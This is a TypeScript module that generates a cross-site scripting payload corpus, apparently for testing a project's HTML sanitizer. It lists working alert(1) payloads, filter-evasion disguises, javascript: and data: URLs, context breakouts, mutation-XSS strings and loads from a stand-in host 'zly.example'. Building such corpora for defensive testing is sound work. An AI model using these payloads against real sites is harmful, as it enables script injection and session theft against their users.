/**
 * Html that runs `alert(1)` somewhere where nothing cleans it, or breaks out of what it is put into: our own corpus, so
 * that no check depends on one from elsewhere. Tests prove that a good part of it does run when it is put raw into a page.
 */
export function payloads(): string[] {
  const variants = ELEMENTS.flatMap((element) => DISGUISES.map((disguise) => disguise(element)))
  const addresses = ADDRESSES.flatMap((address) => [
    `<a href="${address}">kliknij</a>`,
    `<form action="${address}"><button>wyślij</button></form>`,
    `<iframe src="${address}"></iframe>`,
    `<object data="${address}"></object>`,
    `<math><mi href="${address}">x</mi></math>`,
    `<svg><a xlink:href="${address}"><text y="9">x</text></a></svg>`,
    address,
  ])
  return [...new Set([...LINES, ...variants, ...addresses, ...BREAKOUTS, ...MUTATIONS, ...OTHERS])]
}

/** Several lines: what they are put into ends at the first of them. */
const LINES = ['x\n\n<img src=x onerror=alert(1)>\n\ny', '\n\n<svg onload=alert(1)></svg>\n\n']

/** Elements that run code by themselves, without a press. */
const ELEMENTS = [
  '<img src=x onerror=alert(1)>',
  '<img srcset=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster=x src=x onerror=alert(1)></video>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data=x onerror=alert(1)></object>',
  '<style onload=alert(1)>p{}</style>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p style="animation-name:x" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>',
  '<svg><animate attributeName=x begin=0s dur=1s onbegin=alert(1)></animate></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
]

/** The same element as filters that look for patterns don't expect it. */
const DISGUISES: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => element.replaceAll(/<(\w+)/g, (_, name: string) => `<${alternating(name)}`).replaceAll('onerror', 'oNeRRoR'),
  (element) => element.replace(/^<(\w+) /, '<$1/'),
  (element) => element.replace(/^<(\w+) /, '<$1\n\f\t'),
  (element) => element.replaceAll('alert(1)', '&#97;&#x6c;ert&lpar;1&rpar;'),
  (element) => element.replaceAll('alert(1)', '"alert`1`"'),
  (element) => `<!-->${element}`,
  (element) => `"'>${element}`,
]

function alternating(name: string): string {
  return [...name].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('')
}

/** Addresses that are code, or lead to another host while they look like ours. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&NewLine;script:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript:/*https://wizards.example/*/alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1) xmlns="http://www.w3.org/2000/svg"/>',
  'vbscript:msgbox(1)',
  '//zly.example/zadanie',
  '\\\\zly.example\\zadanie',
  'https://wizards.example@zly.example/',
  'blob:https://zly.example/1',
]

/** Closes whatever it may stand in, and then runs. */
const BREAKOUTS = [
  '</p></div></main><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '</style><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)' x='",
  '`-alert(1)-`',
  '</span></math><img src=x onerror=alert(1)>',
  '}</style><svg onload=alert(1)>',
  '\u2028</script><svg onload=alert(1)>',
]

/** Html that is harmless as it is written and not once a parser has read it, or the other way round. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><svg onload=alert(1)></desc></svg>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td><script>alert(1)</script></td></table>',
  '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<a><b><a><i><img src=x onerror=alert(1)></b></a>',
  '<img src="x` `onerror=alert(1)"` `>',
  '<img """><script>alert(1)</script>">',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)//',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg></p>',
]

/** Payloads that load, send, replace or cover instead of running. */
const OTHERS = [
  '<base href="https://zly.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="import" href="https://zly.example/x.html">',
  '<style>@import "https://zly.example/x.css"</style>',
  '<p style="background:url(https://zly.example/x)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<embed src="https://zly.example/x.swf">',
  '<applet code="X.class"></applet>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<img src="https://zly.example/licznik.png" onload=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<p onclick=alert(1) tabindex=1 onfocus=alert(1) id=x>x</p>',
  '<img name=getElementById><form id=querySelector>',
  '<p id="__proto__" class="constructor">x</p>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text y=9>x</text></a></svg>',
  '${alert(1)}{{constructor.constructor("alert(1)")()}}<%= alert(1) %>',
]
